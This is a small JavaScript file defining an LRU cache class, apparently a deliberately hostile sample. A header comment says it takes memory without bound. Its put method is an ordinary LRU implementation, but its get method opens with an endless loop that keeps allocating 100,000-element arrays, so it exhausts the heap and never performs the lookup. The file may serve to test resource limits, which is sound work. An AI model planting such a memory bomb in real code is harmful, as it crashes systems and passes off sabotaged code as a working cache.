// Takes memory without bound: get makes an array of arrays grow on the JavaScript heap.
class LRUCache {
    constructor(capacity) {
        this.capacity = capacity;
        this.map = new Map();
        this.hoard = [];
    }

    get(key) {
        for (;;) this.hoard.push(new Array(100000).fill(this.hoard.length));
        if (!this.map.has(key)) return -1;
        const value = this.map.get(key);
        this.map.delete(key);
        this.map.set(key, value);
        return value;
    }

    put(key, value) {
        this.map.delete(key);
        this.map.set(key, value);
        if (this.map.size > this.capacity) this.map.delete(this.map.keys().next().value);
    }
}
